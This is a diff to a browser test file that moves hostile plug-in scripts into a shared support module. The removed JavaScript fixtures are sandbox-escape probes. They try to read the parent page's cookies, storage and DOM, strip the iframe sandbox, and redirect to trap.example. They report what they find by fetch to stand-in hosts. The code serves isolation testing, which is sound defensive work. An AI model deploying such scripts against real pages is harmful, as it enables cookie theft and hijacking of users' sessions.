@@ -7,58 +7,7 @@ from tests.browser.conftest import BrowserContextFactory, Contacted
 from tests.browser.content_card import ContentCard
 from tests.browser.recorder import Recorder
 from tests.browser.share_bar import ShareBar
-
-# Everything that a plug-in would try, each attempt on its own; what it learns it reports to its own
-# host.
-HOSTILE = """<!doctype html><title>hostile</title><script>
-const attempts = {
-  document: () => parent.document.title,
-  outer: () => top.document.body.innerHTML,
-  cookie: () => top.document.cookie,
-  storage: () => top.localStorage.length,
-  wrapper: () => parent.document.querySelector("iframe").removeAttribute("sandbox"),
-  navigation: () => { top.location = "https://trap.example/"; },
-  replacement: () => { parent.location.replace("https://trap.example/"); },
-  databases: () => top.indexedDB.open("theirs"),
-};
-// These fail without an exception: whoever they reach is on record.
-for (const target of ["_top", "_parent"]) {
-  const link = Object.assign(document.createElement("a"),
-    { href: "https://trap.example/link", target });
-  const form = Object.assign(document.createElement("form"),
-    { action: "https://trap.example/form", target });
-  document.documentElement.append(link, form);
-  link.click();
-  form.submit();
-  window.open("https://trap.example/window", target);
-}
-const won = Object.keys(attempts).filter((name) => {
-  try { attempts[name](); return true; } catch { return false; }
-});
-location.hash = "done";
-fetch("/report?won=" + won.join("+") + "&origin=" + self.origin);
-</script>"""
-
-
-# The script of a company that has no page to frame, in our document.
-OWN_SCRIPT = """
-const attempts = {
-  cookie: () => document.cookie,
-  storage: () => localStorage.length,
-  wrapper: () => parent.document.title,
-  outer: () => top.document.title,
-  navigation: () => { top.location = "https://trap.example/"; },
-};
-const won = Object.keys(attempts).filter((name) => {
-  try { attempts[name](); return true; } catch { return false; }
-});
-const seen = [document.baseURI, location.href, document.referrer, self.origin];
-const told = document.querySelector(".timeline").dataset.name;
-const report = "/report?" + won.join("+") + "&" + seen.join("&") + "&" + told;
-fetch("https://timeline.example" + report, { mode: "no-cors" });
-fetch("https://trap.example/", { mode: "no-cors" });
-"""
-OWN_REPORT = "/report?&about:srcdoc&about:srcdoc&&null&cable"
+from tests.support.hostile_plugins import HOSTILE, OWN_REPORT, OWN_SCRIPT
 
 
 def test_a_script_without_a_page_of_its_own_learns_nothing_of_ours(
